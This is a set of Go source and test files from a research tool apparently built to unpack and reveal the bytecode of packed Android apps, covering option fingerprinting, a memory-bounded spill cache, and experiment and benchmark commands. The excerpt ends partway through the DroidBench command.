package dexlego_test

import (
	"strings"
	"testing"

	root "dexlego"
	"dexlego/internal/art"
)

func TestOptionsFingerprintCanonical(t *testing.T) {
	base := root.Options{}
	if got, again := base.Fingerprint(), base.Fingerprint(); got != again {
		t.Fatalf("fingerprint not deterministic: %q != %q", got, again)
	}
	// A nil device fingerprints identically to the explicit default: the
	// fingerprint covers the effective configuration, not its spelling.
	phone := art.DefaultPhone()
	explicit := root.Options{Device: &phone}
	if base.Fingerprint() != explicit.Fingerprint() {
		t.Error("nil device and explicit DefaultPhone fingerprints differ")
	}
	// Every artifact-relevant field moves the fingerprint.
	variants := map[string]root.Options{
		"fuzz":           {Fuzz: true},
		"seed":           {FuzzSeed: 42},
		"force":          {ForceExecution: true},
		"device":         {Device: func() *art.Device { d := art.EmulatorDevice(); return &d }()},
		"natives":        {Natives: map[string]art.NativeFunc{"Lx;->f()V": nil}},
		"installNatives": {InstallNatives: func(*art.Runtime) {}},
		"driver":         {Driver: func(*art.Runtime) error { return nil }},
	}
	seen := map[string]string{"base": base.Fingerprint()}
	for name, o := range variants {
		fp := o.Fingerprint()
		for prev, prevFP := range seen {
			if fp == prevFP {
				t.Errorf("options %q and %q share fingerprint %q", name, prev, fp)
			}
		}
		seen[name] = fp
	}
	// Observability and side-output fields are excluded by design.
	traced := root.Options{TraceLabel: "x", CollectDir: "/tmp/x"}
	if traced.Fingerprint() != base.Fingerprint() {
		t.Error("trace/collect fields must not move the fingerprint")
	}
	// Native map iteration order must not leak into the fingerprint.
	n1 := root.Options{Natives: map[string]art.NativeFunc{"a": nil, "b": nil, "c": nil}}
	for i := 0; i < 16; i++ {
		n2 := root.Options{Natives: map[string]art.NativeFunc{"c": nil, "a": nil, "b": nil}}
		if n1.Fingerprint() != n2.Fingerprint() {
			t.Fatal("native key order leaked into the fingerprint")
		}
	}
	if !strings.HasPrefix(base.Fingerprint(), "opts/v1") {
		t.Errorf("fingerprint missing version prefix: %q", base.Fingerprint())
	}
}
