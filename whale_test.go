package dexlego_test

import (
	"bytes"
	"testing"

	root "dexlego"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
	"dexlego/internal/workload"
)

// The memory-budget property suite: displacing method records to the spill
// tier and emitting the DEX through the streaming writer must never be
// observable in the output, even when the spill cache is so small that
// every entry is evicted before reassembly reads it back.

// testWhale builds a whale sized for test time rather than for benchmarks:
// wide enough that many records cross the spill threshold, with giants big
// enough to dominate the result's heap.
func testWhale(t *testing.T) *workload.App {
	t.Helper()
	app, err := workload.Whale(workload.WhaleConfig{
		Classes:         10,
		MethodsPerClass: 4,
		InsnsPerMethod:  96,
		GiantMethods:    2,
		GiantInsns:      8000,
		Seed:            42,
	})
	if err != nil {
		t.Fatalf("build whale: %v", err)
	}
	return &app
}

func TestWhaleSpillByteIdentity(t *testing.T) {
	app := testWhale(t)

	ref, refRes := revealTraced(t, app.APK, root.Options{Workers: 1})

	sc, err := store.OpenMethodCache("", 0)
	if err != nil {
		t.Fatal(err)
	}
	spilled, res := revealTraced(t, app.APK, root.Options{Workers: 1, SpillCache: sc})
	if !bytes.Equal(ref, spilled) {
		t.Errorf("spilled reveal differs from all-resident (%d vs %d bytes)",
			len(ref), len(spilled))
	}
	if res.Metrics.MethodsSpilled == 0 {
		t.Fatalf("whale reveal spilled no methods")
	}
	if res.Metrics.SpilledBytes == 0 {
		t.Errorf("MethodsSpilled=%d but SpilledBytes=0", res.Metrics.MethodsSpilled)
	}
	// Spilled records leave the result map before the count is taken; the
	// banked instruction counts must keep the metric identical.
	if res.Metrics.ExecutedInsns != refRes.Metrics.ExecutedInsns {
		t.Errorf("ExecutedInsns %d with spill, %d without",
			res.Metrics.ExecutedInsns, refRes.Metrics.ExecutedInsns)
	}
	if err := res.Metrics.Validate(); err != nil {
		t.Errorf("spilled metrics invalid: %v", err)
	}
}

// TestWhaleSpillEvictionFallback forces the pathological cache: a
// memory-only spill tier with a capacity of one byte evicts almost every
// entry the moment the next one arrives, so nearly all reassembly fetches
// miss and must recover from the retained bytes. Output must still be
// byte-identical — the spill tier may slow a reveal, never fail it.
func TestWhaleSpillEvictionFallback(t *testing.T) {
	app := testWhale(t)

	ref, _ := revealTraced(t, app.APK, root.Options{Workers: 1})

	sc, err := store.OpenMethodCache("", 1)
	if err != nil {
		t.Fatal(err)
	}
	spilled, res := revealTraced(t, app.APK, root.Options{Workers: 1, SpillCache: sc})
	if !bytes.Equal(ref, spilled) {
		t.Errorf("eviction-fallback reveal differs from all-resident (%d vs %d bytes)",
			len(ref), len(spilled))
	}
	if res.Metrics.MethodsSpilled == 0 {
		t.Fatalf("whale reveal spilled no methods")
	}
	if sc.Evicted() == 0 {
		t.Errorf("one-byte cache evicted nothing — fallback path not exercised")
	}
}

// TestWhaleSpillWithIncremental combines the spill tier with the
// incremental method cache: spilled records must still be stored back after
// verify, so a later reveal splices them instead of re-executing.
func TestWhaleSpillWithIncremental(t *testing.T) {
	app := testWhale(t)

	ref, _ := revealTraced(t, app.APK, root.Options{Workers: 1})

	mc, err := store.OpenMethodCache("", 0)
	if err != nil {
		t.Fatal(err)
	}
	sc, err := store.OpenMethodCache("", 0)
	if err != nil {
		t.Fatal(err)
	}
	opts := root.Options{Workers: 1, Incremental: true, MethodCache: mc, SpillCache: sc}
	warm, warmRes := revealTraced(t, app.APK, opts)
	if !bytes.Equal(ref, warm) {
		t.Errorf("cache-warming spilled reveal differs from full (%d vs %d bytes)",
			len(ref), len(warm))
	}
	if warmRes.Metrics.MethodsSpilled == 0 {
		t.Fatalf("warming reveal spilled no methods")
	}
	hot, hotRes := revealTraced(t, app.APK, opts)
	if !bytes.Equal(ref, hot) {
		t.Errorf("spliced spilled reveal differs from full (%d vs %d bytes)",
			len(ref), len(hot))
	}
	if hotRes.Metrics.MethodsCached == 0 {
		t.Errorf("second reveal spliced no methods — spilled records were not stored back")
	}
}

// TestWhaleHeapPeakCeiling is the memory-budget acceptance gate: a whale
// reveal through the spill tier and the streaming writer must stay under a
// heap-peak ceiling sized with generous margin. The ceiling is a
// regression tripwire for the output path's memory behavior, not a precise
// measurement — heap accounting is process-wide.
func TestWhaleHeapPeakCeiling(t *testing.T) {
	if testing.Short() {
		t.Skip("heap measurement under -short")
	}
	app := testWhale(t)
	sc, err := store.OpenMethodCache("", 0)
	if err != nil {
		t.Fatal(err)
	}
	acct := pipeline.NewResourceAccountant()
	stop := acct.StartSampling(0)
	var buf bytes.Buffer
	tr := obs.New(obs.NewJSONLSink(&buf))
	res, err := root.Reveal(app.APK, root.Options{Workers: 1, SpillCache: sc, Tracer: tr})
	stop()
	if err != nil {
		t.Fatalf("reveal: %v", err)
	}
	if res.Metrics.MethodsSpilled == 0 {
		t.Fatalf("whale reveal spilled no methods")
	}
	const ceiling = 256 << 20
	if peak := acct.Finish(0, 0).HeapPeakBytes; peak > ceiling {
		t.Errorf("whale reveal heap peak %d bytes exceeds %d ceiling", peak, int64(ceiling))
	}
}
