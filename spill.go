package dexlego

import (
	"sort"

	"dexlego/internal/collector"
	"dexlego/internal/obs"
	"dexlego/internal/store"
)

// The mid-reveal spill tier: after collection finishes, completed method
// records are displaced from the live result into a store.MethodCache and
// fetched back one class at a time during reassembly. A decoded tree graph
// occupies several times its JSON encoding (pointers, parent links, the
// fingerprint dedup index), so converting the bulk of the result to flat
// bytes between the two phases is what caps a whale reveal's heap peak —
// the reassembler re-inflates only the class it is currently emitting.
//
// Spilled entries are content-addressed (store.SpillKeyFor), so the tier
// needs no invalidation and tolerates any sharing. Eviction is harmless by
// construction: every spillEntry retains the serialized bytes it was built
// from, and fetch falls back to them when the cache no longer answers — the
// spill can slow a reveal down, never fail it.

// spillMinBytes is the smallest encoded record worth displacing: below this
// the bookkeeping (map entry, store key, cache slot) rivals the record
// itself, and small methods are exactly the ones whose decoded form is
// cheap to keep resident.
const spillMinBytes = 2048

// spillEntry is one displaced method record.
type spillEntry struct {
	storeKey string
	data     []byte // serialized record; fetch fallback when the cache evicted it
	insns    int    // executed-instruction count the record carried
}

// spillSet tracks every record displaced from one reveal's result.
type spillSet struct {
	cache   *store.MethodCache
	entries map[string]*spillEntry // method key -> entry
	insns   int                    // summed instruction counts of spilled records
	bytes   int64                  // summed serialized sizes
}

// spillResult displaces every executed method record whose encoding reaches
// spillMinBytes from res into cache, emitting one mem_spill event per
// record. Records that fail to encode or to enter the cache simply stay
// resident. Returns nil when nothing was spilled.
func spillResult(res *collector.Result, cache *store.MethodCache, span *obs.Span) *spillSet {
	if res == nil || cache == nil {
		return nil
	}
	keys := make([]string, 0, len(res.Methods))
	for k := range res.Methods {
		keys = append(keys, k)
	}
	sort.Strings(keys) // deterministic spill (and event) order
	sp := &spillSet{cache: cache, entries: make(map[string]*spillEntry)}
	for _, key := range keys {
		rec := res.Methods[key]
		if rec == nil || !rec.Executed() {
			continue
		}
		data, err := collector.EncodeRecord(rec)
		if err != nil || len(data) < spillMinBytes {
			continue
		}
		storeKey := store.SpillKeyFor(data)
		if cache.Put(storeKey, data) != nil {
			continue
		}
		insns := 0
		for _, tr := range rec.Trees {
			insns += tr.Size()
		}
		sp.entries[key] = &spillEntry{storeKey: storeKey, data: data, insns: insns}
		sp.insns += insns
		sp.bytes += int64(len(data))
		delete(res.Methods, key)
		span.MemSpill(key, int64(len(data)), storeKey)
	}
	if len(sp.entries) == 0 {
		return nil
	}
	return sp
}

// count returns the number of displaced records (0 on nil).
func (sp *spillSet) count() int {
	if sp == nil {
		return 0
	}
	return len(sp.entries)
}

// fetch re-inflates the record spilled under a method key, serving the
// reassembler's Config.Fetch hook. A cache miss (a memory-only tier evicted
// the entry) falls back to the retained bytes, so a spilled method is
// always recoverable. Nil-safe.
func (sp *spillSet) fetch(key string) (*collector.MethodRecord, bool) {
	if sp == nil {
		return nil, false
	}
	e, ok := sp.entries[key]
	if !ok {
		return nil, false
	}
	data, ok := sp.cache.Get(e.storeKey)
	if !ok {
		data = e.data
	}
	rec, err := collector.DecodeRecord(data)
	if err != nil {
		// The cache tier returned bytes that no longer decode (it should be
		// impossible under content addressing); the retained copy cannot
		// fail the same way — it round-tripped through EncodeRecord.
		if rec, err = collector.DecodeRecord(e.data); err != nil {
			return nil, false
		}
	}
	return rec, true
}

// storeBack admits spilled records into the incremental method cache,
// mirroring incPlan.storeBack for the records it can no longer see in the
// result: fingerprintable, not skip-listed, cacheable. The serialized bytes
// are reused as-is — they are exactly what EncodeRecord would produce.
// Nil-safe on every operand.
func (sp *spillSet) storeBack(p *incPlan, mc *store.MethodCache) {
	if sp == nil || p == nil || mc == nil {
		return
	}
	for key, e := range sp.entries {
		if p.skip[key] {
			continue
		}
		fp, ok := p.fps[key]
		if !ok {
			continue
		}
		rec, err := collector.DecodeRecord(e.data)
		if err != nil || !rec.Cacheable() {
			continue
		}
		_ = mc.Put(store.MethodKeyFor(p.optionsFP, fp), e.data)
	}
}
