package dexlego

import (
	"fmt"
	"sort"
	"strings"

	"dexlego/internal/art"
)

// Fingerprint returns the canonical cache identity of the options: a
// versioned, deterministic string covering every field that can change the
// revealed artifact. Two Options values with equal fingerprints (applied
// to APKs with equal content hashes) produce byte-identical revealed DEX
// files, which is the determinism assumption the artifact store's
// content-addressed keys rest on (see DESIGN.md).
//
// Function-typed fields (Driver, InstallNatives, Natives values) cannot be
// hashed by content, so they enter the fingerprint by shape only: whether
// a custom driver or native installer is present, and the sorted native
// method keys. Callers that register bespoke behavior behind an identical
// shape — two different custom drivers, say — must not share a store.
// Observability fields (Tracer, TraceLabel) and side outputs (CollectDir)
// do not affect the artifact and are excluded.
func (o Options) Fingerprint() string {
	device := art.DefaultPhone()
	if o.Device != nil {
		device = *o.Device
	}
	keys := make([]string, 0, len(o.Natives))
	for k := range o.Natives {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var sb strings.Builder
	sb.WriteString("opts/v1")
	fmt.Fprintf(&sb, "|device=%+v", device)
	fmt.Fprintf(&sb, "|fuzz=%t|seed=%d|force=%t", o.Fuzz, o.FuzzSeed, o.ForceExecution)
	fmt.Fprintf(&sb, "|natives=%s", strings.Join(keys, ","))
	fmt.Fprintf(&sb, "|installNatives=%t|driver=%t", o.InstallNatives != nil, o.Driver != nil)
	return sb.String()
}
