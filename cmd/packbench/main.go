// Command packbench runs the packing experiments: Table I (packer matrix
// over the AOSP applications) and Table V (packed market applications).
// It can also pack an APK on disk with a chosen packer.
//
// Usage:
//
//	packbench -table 1 [-jobs n]
//	packbench -table 5 [-jobs n] [-metrics]
//	packbench -pack app.apk -packer 360 -out packed.apk
//
// Table runs execute over the batch-reveal pipeline; -jobs caps the worker
// pool (0 = GOMAXPROCS) and -metrics prints the per-stage batch report.
package main

import (
	"flag"
	"fmt"
	"os"

	"dexlego/internal/apk"
	"dexlego/internal/experiments"
	"dexlego/internal/packer"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "packbench:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("packbench", flag.ContinueOnError)
	table := fs.Int("table", 0, "table to regenerate (1 or 5)")
	jobs := fs.Int("jobs", 0, "batch-reveal parallelism (0 = GOMAXPROCS)")
	metrics := fs.Bool("metrics", false, "print the per-stage batch report after the table")
	packPath := fs.String("pack", "", "APK to pack")
	packerName := fs.String("packer", "360", "packer name (360, Alibaba, Tencent, Baidu, Bangcle)")
	out := fs.String("out", "", "output path for -pack")
	if err := fs.Parse(args); err != nil {
		return err
	}
	switch {
	case *table == 1:
		res, err := experiments.RunTable1Jobs(*jobs)
		if err != nil {
			return err
		}
		fmt.Print(res.Table1String())
	case *table == 5:
		rows, report, err := experiments.RunTable5Batch(*jobs)
		if err != nil {
			return err
		}
		fmt.Print(experiments.Table5String(rows))
		if *metrics {
			fmt.Print(report.String())
		}
	case *packPath != "":
		if *out == "" {
			fs.Usage()
			return fmt.Errorf("-out is required with -pack")
		}
		data, err := os.ReadFile(*packPath)
		if err != nil {
			return err
		}
		pkg, err := apk.Read(data)
		if err != nil {
			return err
		}
		pk, err := packer.ByName(*packerName)
		if err != nil {
			return err
		}
		packed, err := pk.Pack(pkg)
		if err != nil {
			return err
		}
		outData, err := packed.Bytes()
		if err != nil {
			return err
		}
		if err := os.WriteFile(*out, outData, 0o644); err != nil {
			return err
		}
		fmt.Printf("packed %s with %s -> %s\n", *packPath, pk.Name(), *out)
	default:
		fs.Usage()
		return fmt.Errorf("pick -table 1|5 or -pack")
	}
	return nil
}
