package main

import (
	"os"
	"path/filepath"
	"testing"

	"dexlego/internal/dexgen"
)

func TestPackFile(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lpb/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	pkg, err := p.BuildAPK("pb", "1", "Lpb/Main;")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "in.apk")
	out := filepath.Join(dir, "out.apk")
	data, err := pkg.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(in, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-pack", in, "-packer", "Alibaba", "-out", out}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(out); err != nil {
		t.Error(err)
	}
	if err := run([]string{"-pack", in, "-packer", "NetQin", "-out", out}); err == nil {
		t.Error("unavailable packer must fail")
	}
	if err := run([]string{"-pack", in}); err == nil {
		t.Error("missing -out must fail")
	}
	if err := run(nil); err == nil {
		t.Error("no selection must fail")
	}
}
