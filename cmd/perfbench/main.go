// Command perfbench runs the performance experiments of the paper's
// Section V-E — the CF-Bench comparison of Figure 6 and the launch-time
// measurements of Table VIII — and the reveal hot-path benchmark harness
// that backs the CI bench-gate.
//
// Usage:
//
//	perfbench -figure 6
//	perfbench -table 8 [-runs 30]
//	perfbench -bench [-bench-out BENCH_8.json] [-baseline bench/baseline.json]
//	perfbench -bench -profile prof/ [-bench-time 2s] [-workers 0]
//
// -bench measures ns/op, B/op and allocs/op per hot-path stage over the
// pinned corpus (internal/hotbench) and writes the machine-readable report.
// With -baseline it additionally gates the run: any stage regressing more
// than -ns-tol (default 15%) in ns/op or -allocs-tol (default 10%) in
// allocs/op — or, on the reassembly and encode stages, more than -bytes-tol
// (default 15%) in B/op — against the baseline exits non-zero, with a
// benchstat-style delta table on stderr. -profile writes cpu.pprof and heap.pprof captured
// over the benchmark loop into the given directory.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"runtime/pprof"
	"time"

	"dexlego/internal/experiments"
	"dexlego/internal/hotbench"
	"dexlego/internal/obs"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "perfbench:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("perfbench", flag.ContinueOnError)
	figure := fs.Int("figure", 0, "figure to regenerate (6)")
	table := fs.Int("table", 0, "table to regenerate (8)")
	runs := fs.Int("runs", 30, "launch repetitions per app (table 8)")
	bench := fs.Bool("bench", false, "run the reveal hot-path benchmark harness")
	benchOut := fs.String("bench-out", "BENCH_8.json", "benchmark report output path")
	baseline := fs.String("baseline", "", "baseline report to gate against (fails on regression)")
	benchTime := fs.Duration("bench-time", time.Second, "minimum measuring time per stage")
	workers := fs.Int("workers", 0, "intra-reveal workers: reassembly fan-out and forced-run pool (0 = GOMAXPROCS, 1 = serial)")
	profileDir := fs.String("profile", "", "directory for cpu.pprof and heap.pprof of the bench run")
	nsTol := fs.Float64("ns-tol", hotbench.DefaultNsTolerance, "ns/op regression tolerance (fraction)")
	allocsTol := fs.Float64("allocs-tol", hotbench.DefaultAllocsTolerance, "allocs/op regression tolerance (fraction)")
	bytesTol := fs.Float64("bytes-tol", hotbench.DefaultBytesTolerance, "B/op regression tolerance on reassembly/encode (fraction)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	switch {
	case *bench:
		return runBench(*benchOut, *baseline, *profileDir, *benchTime, *workers, *nsTol, *allocsTol, *bytesTol)
	case *figure == 6:
		res, err := experiments.RunFigure6()
		if err != nil {
			return err
		}
		fmt.Print(res.Figure6String())
	case *table == 8:
		rows, err := experiments.RunTable8(*runs)
		if err != nil {
			return err
		}
		fmt.Print(experiments.Table8String(rows))
	default:
		fs.Usage()
		return fmt.Errorf("pick -figure 6, -table 8 or -bench")
	}
	return nil
}

func runBench(outPath, baselinePath, profileDir string, benchTime time.Duration, workers int, nsTol, allocsTol, bytesTol float64) error {
	if profileDir != "" {
		if err := os.MkdirAll(profileDir, 0o755); err != nil {
			return err
		}
		cpu, err := os.Create(filepath.Join(profileDir, "cpu.pprof"))
		if err != nil {
			return err
		}
		defer cpu.Close()
		if err := pprof.StartCPUProfile(cpu); err != nil {
			return err
		}
		defer pprof.StopCPUProfile()
	}

	rep, err := hotbench.Run(hotbench.Config{
		BenchTime: benchTime,
		Workers:   workers,
		Tracer:    obs.New(nil),
	})
	if err != nil {
		return err
	}

	if profileDir != "" {
		heap, err := os.Create(filepath.Join(profileDir, "heap.pprof"))
		if err != nil {
			return err
		}
		defer heap.Close()
		runtime.GC()
		if err := pprof.WriteHeapProfile(heap); err != nil {
			return err
		}
	}

	data, err := rep.JSON()
	if err != nil {
		return err
	}
	if err := os.WriteFile(outPath, data, 0o644); err != nil {
		return err
	}
	fmt.Print(rep.String())
	fmt.Println("report written to", outPath)

	if baselinePath == "" {
		return nil
	}
	baseData, err := os.ReadFile(baselinePath)
	if err != nil {
		return fmt.Errorf("baseline: %w", err)
	}
	base, err := hotbench.DecodeReport(baseData)
	if err != nil {
		return fmt.Errorf("baseline: %w", err)
	}
	fmt.Print(hotbench.Delta(base, rep))
	if violations := hotbench.Compare(base, rep, nsTol, allocsTol, bytesTol); len(violations) > 0 {
		for _, v := range violations {
			fmt.Fprintln(os.Stderr, "REGRESSION:", v)
		}
		return fmt.Errorf("bench gate failed: %d regression(s) against %s", len(violations), baselinePath)
	}
	fmt.Println("bench gate passed against", baselinePath)
	return nil
}
