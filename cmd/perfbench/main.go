// Command perfbench runs the performance experiments of the paper's
// Section V-E: the CF-Bench comparison of Figure 6 and the launch-time
// measurements of Table VIII.
//
// Usage:
//
//	perfbench -figure 6
//	perfbench -table 8 [-runs 30]
package main

import (
	"flag"
	"fmt"
	"os"

	"dexlego/internal/experiments"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "perfbench:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("perfbench", flag.ContinueOnError)
	figure := fs.Int("figure", 0, "figure to regenerate (6)")
	table := fs.Int("table", 0, "table to regenerate (8)")
	runs := fs.Int("runs", 30, "launch repetitions per app (table 8)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	switch {
	case *figure == 6:
		res, err := experiments.RunFigure6()
		if err != nil {
			return err
		}
		fmt.Print(res.Figure6String())
	case *table == 8:
		rows, err := experiments.RunTable8(*runs)
		if err != nil {
			return err
		}
		fmt.Print(experiments.Table8String(rows))
	default:
		fs.Usage()
		return fmt.Errorf("pick -figure 6 or -table 8")
	}
	return nil
}
