package main

import "testing"

func TestRunTable8(t *testing.T) {
	if err := run([]string{"-table", "8", "-runs", "2"}); err != nil {
		t.Fatal(err)
	}
}

func TestNoSelection(t *testing.T) {
	if err := run(nil); err == nil {
		t.Error("no selection must fail")
	}
}
