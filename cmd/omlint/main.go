// Command omlint lints OpenMetrics text exposition: it parses stdin (or
// each file argument) with the same strict parser the test suite uses and
// exits non-zero on the first violation. CI pipes a live scrape of
// GET /metrics through it so a malformed exposition fails the build
// instead of silently breaking scrapers.
//
// Usage:
//
//	curl -fsS http://localhost:8080/metrics | omlint
//	omlint scrape1.txt scrape2.txt
package main

import (
	"fmt"
	"io"
	"os"

	"dexlego/internal/obs"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "omlint:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) == 0 {
		return lint("stdin", os.Stdin)
	}
	for _, path := range args {
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		err = lint(path, f)
		f.Close()
		if err != nil {
			return err
		}
	}
	return nil
}

func lint(name string, r io.Reader) error {
	exp, err := obs.ParseExposition(r)
	if err != nil {
		return fmt.Errorf("%s: %w", name, err)
	}
	samples := 0
	for _, fam := range exp.Families {
		samples += len(fam.Samples)
	}
	fmt.Printf("%s: ok — %d metric families, %d samples\n", name, len(exp.Families), samples)
	return nil
}
