// Command omlint lints OpenMetrics text exposition: it parses stdin, each
// file argument, or a live scrape of each URL argument with the same
// strict parser the test suite uses and exits non-zero naming the first
// failing source. CI runs it against every fleet node's GET /metrics so a
// malformed exposition on any node fails the build instead of silently
// breaking scrapers.
//
// Usage:
//
//	curl -fsS http://localhost:8080/metrics | omlint
//	omlint scrape1.txt scrape2.txt
//	omlint http://node1:8080/metrics http://node2:8080/metrics
package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"time"

	"dexlego/internal/obs"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "omlint:", err)
		os.Exit(1)
	}
}

// scrapeClient bounds each URL fetch so a hung node fails the lint rather
// than the pipeline's timeout.
var scrapeClient = &http.Client{Timeout: 10 * time.Second}

func run(args []string) error {
	if len(args) == 0 {
		return lint("stdin", os.Stdin)
	}
	for _, arg := range args {
		if err := lintSource(arg); err != nil {
			return err
		}
	}
	return nil
}

// lintSource resolves one argument — URL or file path — and lints it. The
// error names the source, so a multi-node invocation points at the first
// failing node.
func lintSource(arg string) error {
	if strings.HasPrefix(arg, "http://") || strings.HasPrefix(arg, "https://") {
		resp, err := scrapeClient.Get(arg)
		if err != nil {
			return fmt.Errorf("%s: %w", arg, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return fmt.Errorf("%s: scrape returned %s", arg, resp.Status)
		}
		return lint(arg, resp.Body)
	}
	f, err := os.Open(arg)
	if err != nil {
		return err
	}
	defer f.Close()
	return lint(arg, f)
}

func lint(name string, r io.Reader) error {
	exp, err := obs.ParseExposition(r)
	if err != nil {
		return fmt.Errorf("%s: %w", name, err)
	}
	samples := 0
	for _, fam := range exp.Families {
		samples += len(fam.Samples)
	}
	fmt.Printf("%s: ok — %d metric families, %d samples\n", name, len(exp.Families), samples)
	return nil
}
