package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const goodExposition = `# TYPE dexlego_jobs_submitted counter
# HELP dexlego_jobs_submitted Jobs accepted.
dexlego_jobs_submitted_total 3
# EOF
`

func TestLintAcceptsValidExposition(t *testing.T) {
	path := filepath.Join(t.TempDir(), "good.txt")
	if err := os.WriteFile(path, []byte(goodExposition), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{path}); err != nil {
		t.Errorf("valid exposition rejected: %v", err)
	}
}

func TestLintRejectsBrokenExposition(t *testing.T) {
	cases := map[string]string{
		"missing EOF":  "# TYPE a counter\na_total 1\n",
		"no such file": "", // sentinel: path does not exist
	}
	dir := t.TempDir()
	for name, body := range cases {
		path := filepath.Join(dir, strings.ReplaceAll(name, " ", "-")+".txt")
		if body != "" {
			if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if err := run([]string{path}); err == nil {
			t.Errorf("%s: lint passed, want error", name)
		}
	}
}
