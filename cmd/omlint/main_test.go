package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const goodExposition = `# TYPE dexlego_jobs_submitted counter
# HELP dexlego_jobs_submitted Jobs accepted.
dexlego_jobs_submitted_total 3
# EOF
`

func TestLintAcceptsValidExposition(t *testing.T) {
	path := filepath.Join(t.TempDir(), "good.txt")
	if err := os.WriteFile(path, []byte(goodExposition), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{path}); err != nil {
		t.Errorf("valid exposition rejected: %v", err)
	}
}

func TestLintRejectsBrokenExposition(t *testing.T) {
	cases := map[string]string{
		"missing EOF":  "# TYPE a counter\na_total 1\n",
		"no such file": "", // sentinel: path does not exist
	}
	dir := t.TempDir()
	for name, body := range cases {
		path := filepath.Join(dir, strings.ReplaceAll(name, " ", "-")+".txt")
		if body != "" {
			if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if err := run([]string{path}); err == nil {
			t.Errorf("%s: lint passed, want error", name)
		}
	}
}

// TestLintScrapesURLs: URL arguments are fetched live, all of them lint in
// one invocation, and a failure names the offending node.
func TestLintScrapesURLs(t *testing.T) {
	good := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, goodExposition)
	}))
	defer good.Close()
	bad := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "# TYPE a counter\na_total 1\n") // no # EOF terminator
	}))
	defer bad.Close()
	down := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		http.Error(w, "draining", http.StatusServiceUnavailable)
	}))
	defer down.Close()

	if err := run([]string{good.URL, good.URL}); err != nil {
		t.Errorf("two healthy nodes rejected: %v", err)
	}
	err := run([]string{good.URL, bad.URL})
	if err == nil {
		t.Fatal("malformed node passed the lint")
	}
	if !strings.Contains(err.Error(), bad.URL) {
		t.Errorf("error %q does not name the failing node %s", err, bad.URL)
	}
	err = run([]string{down.URL})
	if err == nil || !strings.Contains(err.Error(), down.URL) {
		t.Errorf("unscrapable node error %v must name %s", err, down.URL)
	}
}
