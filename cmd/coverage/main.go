// Command coverage runs the code-coverage experiments of the paper's
// Section V-D: Table VI (collection dump sizes of the F-Droid samples) and
// Table VII (Sapienz vs Sapienz+DexLego coverage).
//
// Usage:
//
//	coverage -table 6 [-dir out]
//	coverage -table 7
package main

import (
	"flag"
	"fmt"
	"os"

	"dexlego/internal/experiments"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "coverage:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("coverage", flag.ContinueOnError)
	table := fs.Int("table", 7, "table to regenerate (6 or 7)")
	dir := fs.String("dir", "", "directory for collection dumps (table 6; default temp)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	switch *table {
	case 6:
		out := *dir
		if out == "" {
			tmp, err := os.MkdirTemp("", "dexlego-dumps")
			if err != nil {
				return err
			}
			out = tmp
		}
		rows, err := experiments.RunTable6(out)
		if err != nil {
			return err
		}
		fmt.Print(experiments.Table6String(rows))
		fmt.Printf("collection files under %s\n", out)
	case 7:
		res, err := experiments.RunTable7()
		if err != nil {
			return err
		}
		fmt.Print(experiments.Table7String(res))
	default:
		fs.Usage()
		return fmt.Errorf("pick -table 6 or -table 7")
	}
	return nil
}
