package main

import "testing"

func TestRunTable6(t *testing.T) {
	if err := run([]string{"-table", "6", "-dir", t.TempDir()}); err != nil {
		t.Fatal(err)
	}
}

func TestBadTable(t *testing.T) {
	if err := run([]string{"-table", "9"}); err == nil {
		t.Error("unknown table must fail")
	}
}
