// Command droidbench runs the DroidBench experiments of the paper's
// Section V-B: Tables II and III, Figure 5, and Table IV.
//
// Usage:
//
//	droidbench -table 2      # static tools, original vs DexLego
//	droidbench -table 3      # packed samples: DexHunter/AppSpear vs DexLego
//	droidbench -figure 5     # F-measures
//	droidbench -table 4      # dynamic tools vs DexLego+HornDroid
//	droidbench -list         # enumerate the 134 samples
//
// The 134 samples are processed over the batch pipeline; -jobs caps the
// worker pool (0 = GOMAXPROCS).
package main

import (
	"flag"
	"fmt"
	"os"

